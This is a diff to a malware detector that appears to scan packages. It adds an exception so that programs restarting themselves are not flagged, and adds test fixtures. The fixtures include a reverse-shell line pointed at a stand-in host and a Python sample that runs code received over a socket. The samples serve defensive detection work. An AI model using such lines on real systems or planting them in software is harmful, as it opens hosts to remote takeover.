@@ -1,5 +1,7 @@
-import { deedsOf, flowsBetween } from "../behaviour/trace.ts";
+import { isProgram } from "../behaviour/commands.ts";
+import { type Deed, deedsOf, flowsBetween } from "../behaviour/trace.ts";
 import type { Detector } from "../detector.ts";
+import type { SourceFile } from "../model.ts";
 import { certainty } from "./_flow.ts";
 import { codeWith, isLate, matchInCode, sight } from "./_sight.ts";
 
@@ -87,8 +89,22 @@ Security tools generate such commands for their users as text; those name many o
         },
       },
       { ecosystem: "pypi", files: { "demo/a.py": "# bash -i >& /dev/tcp/example.invalid/1\n" } },
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/a.py":
+            "import os, socket, sys\ns = socket.socket()\nd = s.recv(9)\nif d == b'restart':\n    os.execv(sys.executable, [sys.executable] + sys.argv)\n",
+        },
+      },
     ],
     evasions: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/a.py":
+            "import os, socket, sys\ns = socket.create_connection(('example.invalid', 1))\nd = s.recv(9)\nos.execv(sys.executable, [sys.executable, '-c', d])\n",
+        },
+      },
       {
         ecosystem: "pypi",
         files: {
@@ -116,10 +132,25 @@ function* tied(file: Parameters<typeof deedsOf>[0]) {
   }
   for (const flow of flowsBetween(file, ["socket"], ["start", "run-code"])) {
     const { sink } = flow;
+    if (REPLACES.test(sink.what) && (!isProgram(sink) || startsAgain(file, sink))) continue;
     const late = isLate(sink);
     yield sight(file, sink.offset, `what a socket receives is run by ${sink.what}`, {
       phase: sink.phase,
       share: (late ? 0.7 : 1) * certainty(file, flow),
     });
   }
+}
+
+/** Puts a program in the place of this one, without a shell: only the program itself can be what was received. */
+const REPLACES = /^os\.exec[lv]p?e?$/;
+/** `(sys.executable, [sys.executable] + sys.argv)` and the like, and nothing more. */
+const ITSELF =
+  /^\s{0,10}\(?\s{0,10}sys\.(?:executable|argv\[0\])\s{0,10},(?:sys\.executable|sys\.argv|["']python3?["']|[\s[\]+*,():\d])*$/;
+/** What the program was called with is changed. */
+const CHANGES_ARGUMENTS =
+  /\bargv\b(?:\[[^\]\n]{0,20}\])?[ \t]{0,4}(?:\+?=(?!=)|\.(?:append|extend|insert|__setitem__)\b)/;
+
+/** Whether a program starts itself once more as it was called, as servers do to restart. */
+function startsAgain(file: SourceFile, { words }: Deed): boolean {
+  return ITSELF.test(words) && !CHANGES_ARGUMENTS.test(file.text);
 }
